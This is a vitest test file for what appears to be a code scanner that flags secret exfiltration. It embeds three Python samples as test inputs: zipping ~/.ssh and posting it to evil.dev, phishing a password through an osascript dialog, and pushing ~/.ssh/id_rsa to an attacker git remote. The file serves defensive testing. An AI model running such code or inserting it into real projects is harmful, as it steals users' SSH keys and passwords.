import { expect, test } from "vitest";
import { found } from "../../test-support/package-of";

const IMPORTS = "import json, os, shutil, tarfile, zipfile\nfrom pathlib import Path\nh = Path.home()\n";

test("follows what was gathered into an archive and away", async () => {
  const code = `${IMPORTS}shutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/.ssh"))
import requests, tempfile
t = tempfile.NamedTemporaryFile()
with tarfile.open(t.name, "w:gz") as tar:
    tar.add("/tmp/a.zip")
requests.post("https://evil.dev", files={"f": open(t.name, "rb")})`;
  expect(await found("a.py", code)).toStrictEqual(["block secret-exfiltration:9"]);
});

test("follows a password from a dialog, and what is pushed to a repository", async () => {
  const asks = `import subprocess, requests
p = subprocess.run(["osascript", "-e", 'display dialog "Password" default answer "" with hidden answer'], capture_output=True).stdout
requests.post("https://evil.dev", data=p)`;
  const pushes = `import os, subprocess
open("keys.txt", "w").write(open(os.path.expanduser("~/.ssh/id_rsa")).read())
subprocess.run("git remote add backup https://git.evil.dev/x.git && git push backup", shell=True)`;

  expect(await found("a.py", asks)).toContain("block secret-exfiltration:3");
  expect(await found("a.py", pushes)).toContain("block secret-exfiltration:3");
});
